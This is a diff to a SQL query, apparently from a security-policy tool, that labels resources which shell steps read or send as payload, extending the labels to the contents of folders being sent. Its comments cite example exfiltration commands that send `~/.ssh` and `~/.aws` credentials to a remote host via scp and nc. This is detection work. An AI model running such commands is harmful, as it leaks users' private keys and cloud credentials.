@@ -1,6 +1,6 @@
 -- resource_labels: the policy's label of each resource string the shard's steps read, run
--- or send as payload (grain: resource; only resources matching at least one
--- labels.resources rule).
+-- or send as payload, and of each payload's contents as `<payload>/*` (grain: resource;
+-- only resources matching at least one labels.resources rule).
 -- Inputs: resources, policy_resource_labels.
 -- Parameters: none.
 -- A resource matches a rule when it is like the rule's glob (case-insensitive, `\` escapes);
@@ -12,13 +12,21 @@
 -- self_sends), not a destination or a write (a fifth of the strings). Label levels: confidentiality 0 public, 1 internal, 2 secret;
 -- integrity 0 trusted, 1 untrusted.
 with distinct_resources as (
-    select distinct resource from resources where access in ('read', 'execute', 'payload')
+    select distinct resource, false as contents from resources where access in ('read', 'execute', 'payload')
+    union
+    -- a folder sent (`scp -r ~/.ssh host:`, `tar czf - ~/.aws | nc ...`) sends what is in
+    -- it: `<folder>/*` is labelled by the rules about a folder's contents (globs ending in
+    -- `/*`: `*.ssh/*`), for sql/self_sends.sql; `id_rsa.pub/*` matches no `*id_rsa*`. Only
+    -- for payloads, and local paths (not `env:NAME`, `data:...`, a URL): listing a folder
+    -- (`ls ~/.ssh`) reads its names, not its keys, so a folder read keeps its own label
+    select distinct resource || '/*', true from resources
+    where access = 'payload' and not ends_with(resource, '/*') and not regexp_matches(resource, '^[a-z][a-z0-9+.-]*:')
 ),
 matches as (
     select d.resource, p.conf, p.integ, p.override,
         bool_or(p.override) over (partition by d.resource) as overridden
     from distinct_resources d
-    join policy_resource_labels p on d.resource ilike p."like" escape '\'
+    join policy_resource_labels p on d.resource ilike p."like" escape '\' and (not d.contents or ends_with(p.pattern, '/*'))
 ),
 final as (
     select resource, max(conf) as conf, max(integ) as integ
